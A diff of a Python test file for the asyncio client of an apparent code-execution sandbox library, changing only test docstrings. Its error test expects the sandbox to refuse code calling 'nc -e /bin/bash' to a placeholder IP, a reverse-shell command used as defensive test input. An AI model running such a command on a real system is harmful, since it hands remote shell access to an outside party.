@@ -1,5 +1,5 @@
 # SPDX-License-Identifier: MIT
-"""The same from coroutines."""
+"""The asyncio client."""
 import asyncio
 import unittest
 
@@ -17,14 +17,14 @@ class Aio(Case):
         self.assertEqual(descriptors(), self.before)
 
     def test_run(self):
-        """a run, with callbacks"""
+        """a run with callbacks"""
         told = []
         r = asyncio.run(self.aclient().run("print(input())", input="x", on_event=told.append))
         self.assertEqual(r.text, "x\n")
         self.assertEqual((told[0].kind, told[-1].kind), ("started", "result"))
 
     def test_stream(self):
-        """an iterator has each line when it is printed"""
+        """the iterator yields each line when it is printed"""
         async def read():
             seen = []
             async for event in self.aclient().stream("import time\nfor i in range(3): print(i, flush=True); time.sleep(.05)"):
@@ -35,7 +35,7 @@ class Aio(Case):
         self.assertEqual(seen[-1].result.text, "0\n1\n2\n")
 
     def test_errors(self):
-        """the same errors"""
+        """errors are those of the other client"""
         async def refused():
             with self.assertRaises(cordon.Refused):
                 await self.aclient().run("import os\nos.system('nc -e /bin/bash 192.0.2.1 4444')")
@@ -49,7 +49,7 @@ class Aio(Case):
         asyncio.run(refused())
 
     def test_cancel(self):
-        """a task that is cancelled, an iterator that is left: the run is over"""
+        """cancelling the task or leaving the iterator ends the run"""
         async def leave():
             started = asyncio.Event()
             client = self.aclient()
@@ -72,7 +72,7 @@ class Aio(Case):
         asyncio.run(leave())
 
     def test_much(self):
-        """10 MB"""
+        """10 MB of output"""
         r = asyncio.run(self.aclient().run("import sys\nsys.stdout.write('\\u20ac' * 3495253)", output="64M"))
         self.assertEqual(r.text, "\u20ac" * 3495253)
 
